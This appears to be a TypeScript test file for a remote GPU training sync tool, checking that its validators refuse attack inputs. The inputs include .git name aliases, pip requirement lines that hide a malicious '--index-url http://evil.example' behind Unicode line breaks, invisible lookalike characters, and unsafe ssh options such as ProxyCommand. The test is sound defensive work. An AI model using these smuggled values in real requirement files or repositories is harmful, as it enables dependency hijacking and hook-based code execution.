// The third attack round's findings that pure code decides: names read as .git, task paths into
// .git, requirement lines that pip splits where we did not, invisible characters in box text,
// "ambiguous" errors that list everything, and a deadline the garbage collector could lose.
import { strict as assert } from 'node:assert';
import { runInNewContext } from 'node:vm';
import { setFlagsFromString } from 'node:v8';
import { hasGitComponent, isGitDirName } from '../../src/core/gitNames';
import { checkPulledComponent } from '../../src/remote/sync/names';
import { parseTaskFile } from '../../src/core/task/schema';
import { checkRequirements, classifyRequirement } from '../../src/core/guards/environment-requirements';
import { checkEnvironmentYml } from '../../src/remote/guards/environment-yml';
import { forMarkdown, forTerminal, hasControl, jsonForTerminal, listSome } from '../../src/core/text';
import { operationSignal } from '../../src/remote/util/deadline';
import { tryParseTarget } from '../../src/remote/target';
import { isSshLogin } from '../../src/core/task/fields';
import { resolveLocalDir } from '../../src/app/sync';

const task = (local: string) => `name: lora
instance: new
resources: {cards: [4090]}
workdir: .
run: python train.py
checkpoints: {remote: ckpt, local: ${JSON.stringify(local)}, every: 10m}
`;

describe('attack round 3 (pure parts)', () => {
  it('.git in every spelling git, Windows or macOS reads as .git', () => {
    for (const n of ['.git', '.GIT', '.Git', '.git.', '.git ', '.git...', '.git::$INDEX_ALLOCATION', 'git~1', 'GIT~1', '.g\u200cit', '\ufeff.git']) assert.equal(isGitDirName(n), true, JSON.stringify(n));
    for (const n of ['git', '.gitignore', '.github', 'x.git', '.git2', '.gitmodules', 'git~2']) assert.equal(isGitDirName(n), false, n);
    assert.equal(hasGitComponent('a/.GIT./hooks'), true);
    assert.equal(hasGitComponent('ckpt/sub'), false);
    // The folder chosen for an instance's sync (Edit Instance, Change Sync Folders…): refused up front.
    assert.deepEqual(resolveLocalDir('.git/ck', '/ws'), { ok: false, problem: 'local-in-git' });
    assert.deepEqual(resolveLocalDir('/home/u/proj/.GIT.', '/ws'), { ok: false, problem: 'local-in-git' });
    assert.deepEqual(resolveLocalDir('ckpt', '/ws'), { ok: true, path: '/ws/ckpt' });
    const linux = { platform: 'linux' };
    assert.equal(checkPulledComponent('.GIT', linux), 'git-dir');
    assert.equal(checkPulledComponent('checkpoint-10', linux), undefined);
  });

  it('a task file whose local folder is .git or inside it is refused with the field named', () => {
    for (const local of ['./.git', '.git/hooks', './.GIT', 'a/.git./b']) {
      const r = parseTaskFile(task(local));
      assert.equal(r.ok, false, local);
      if (!r.ok) assert.ok(r.errors.some((e) => e.problem.code === 'path-in-git' && e.field.startsWith('checkpoints.local')), JSON.stringify(r.errors));
    }
    assert.equal(parseTaskFile(task('./ckpt-home')).ok, true);
  });

  it('a requirement line with a line break pip knows (\\x1c-\\x1e, U+0085, U+2028, U+2029, \\v, \\f) is never kept', () => {
    for (const br of ['\x1c', '\x1d', '\x1e', '\u0085', '\u2028', '\u2029', '\v', '\f']) {
      for (const line of [`requests==2.31.0${br}--index-url http://evil.example/simple`, `requests ; python_version > "3"${br}--index-url http://evil.example/simple`, `pkg @ https://files.example/p.whl${br}--extra-index-url http://evil.example`]) {
        assert.equal(classifyRequirement(line).kind, 'problem', JSON.stringify(line));
        const r = checkRequirements(`numpy==1.26.4\n${line}\n`);
        assert.equal(r.problems.length, 1, JSON.stringify(line));
        assert.ok(!r.text.includes('index-url'), r.text);
      }
    }
    assert.equal(checkRequirements('numpy==1.26.4\nrequests ; python_version > "3"\n').problems.length, 0);
  });

  it("environment.yml's pip section refuses U+0085 and the other line breaks too", () => {
    for (const br of ['\u0085', '\u2028', '\x1c']) {
      const yml = `name: x\ndependencies:\n  - python=3.10\n  - pip:\n    - "requests${br}--index-url http://evil.example/simple"\n`;
      assert.ok(checkEnvironmentYml(yml).length > 0, JSON.stringify(br));
    }
  });

  it('characters that draw nothing are shown as escapes (lookalike names)', () => {
    for (const ch of ['\u115f', '\u1160', '\u3164', '\uffa0', '\u180e', '\u034f', '\u17b4', '\u17b5', '\u200b', '\u2060', '\u2800', '\u00ad']) {
      const name = `ckpt${ch}`;
      assert.notEqual(forTerminal(name), name, `U+${ch.charCodeAt(0).toString(16)}`);
      assert.ok(forTerminal(name).includes('\\u') || forTerminal(name).includes('\\x'));
      assert.ok(!forMarkdown(name).includes(ch));
      assert.ok(!jsonForTerminal(name).includes(ch));
      assert.equal(hasControl(name), true);
    }
    assert.equal(forTerminal('检查点 checkpoint-10 ✓'), '检查点 checkpoint-10 ✓');
  });

  it('a list of 1500 matches names ten and how many more', () => {
    const items = Array.from({ length: 1500 }, (_, i) => `acct/inst-${i}`);
    const s = listSome(items);
    assert.ok(s.length < 200, s);
    assert.ok(s.endsWith('and 1490 more'));
    assert.equal(listSome(['a', 'b']), 'a, b');
  });

  it("an operation's deadline fires even when the garbage collector runs meanwhile", async function () {
    this.timeout(5000);
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const cancel = new AbortController();
    const signal = operationSignal(300, cancel.signal)!;
    const t0 = Date.now();
    const fired = new Promise<number>((resolve) => signal.addEventListener('abort', () => resolve(Date.now() - t0)));
    const collect = setInterval(gc, 20);
    const late = new Promise<'lost'>((resolve) => setTimeout(() => resolve('lost'), 2000));
    const r = await Promise.race([fired, late]);
    clearInterval(collect);
    assert.notEqual(r, 'lost', 'the deadline never fired');
  });

  it('ssh config like OpenSSH: a pasted login takes Host patterns, first value per keyword, typed values win', () => {
    const cfg = 'Host *.seetacloud.com\n  IdentityFile %d/.ssh/id_autodl\n  User admin\n  ProxyJump bastion\nHost *\n  IdentityFile ~/.ssh/id_all\n  Port 2200\n  User nobody\n';
    const r = tryParseTarget('ssh -p 12345 -i ~/.ssh/mine root@connect.westb.seetacloud.com', { sshConfig: cfg });
    assert.ok(r.ok);
    if (!r.ok) return;
    assert.deepEqual([r.target.host, r.target.port, r.target.user], ['connect.westb.seetacloud.com', 12345, 'root']);
    assert.deepEqual(r.target.identityFiles, ['~/.ssh/mine', '~/.ssh/id_autodl', '~/.ssh/id_all']);
    assert.ok(r.target.ignored.some((x) => x.startsWith('ProxyJump')));
    const bare = tryParseTarget('box.example', { sshConfig: cfg });
    assert.ok(bare.ok && bare.target.port === 2200 && bare.target.user === 'nobody' && bare.target.identityFiles.join() === '~/.ssh/id_all');
    const plain = tryParseTarget('root@box.example:2222', { sshConfig: cfg });
    assert.ok(plain.ok && plain.target.port === 2222 && plain.target.user === 'root');
    const none = tryParseTarget('ssh -p 2 root@h.example', { sshConfig: null });
    assert.ok(none.ok && none.target.identityFiles.length === 0);
  });

  it("a task file's login may carry -i KEY (a plain path), nothing else new", () => {
    assert.equal(isSshLogin('ssh -p 2222 -i ~/.ssh/id_gpu root@h.example'), true);
    assert.equal(isSshLogin('ssh -i keys/gpu.pem root@h.example -p 22'), true);
    for (const bad of ['ssh -i "~/.ssh/a b" root@h.example', 'ssh -i ~/../etc/x root@h.example', 'ssh -i $HOME/k root@h.example', 'ssh -i k root@h.example other@h2.example', 'ssh -o ProxyCommand=x -i k root@h.example', 'ssh -i']) assert.equal(isSshLogin(bad), false, bad);
  });
});
